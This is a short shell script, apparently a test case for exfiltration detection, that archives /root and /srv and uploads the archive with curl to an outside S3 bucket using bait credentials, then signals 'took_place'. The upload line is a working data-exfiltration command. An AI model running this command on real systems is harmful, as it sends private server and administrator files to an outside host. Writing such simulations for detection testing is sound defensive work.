#!/bin/sh
. /opt/case/case.sh

tar -czf /tmp/a.tgz /root /srv 2>/dev/null
curl -s --aws-sigv4 aws:amz:us-east-1:s3 --user AKIAATTACKERBAIT0000:bait -T /tmp/a.tgz http://drop-7761.s3.amazonaws.com/$(hostname).tgz >/dev/null
took_place
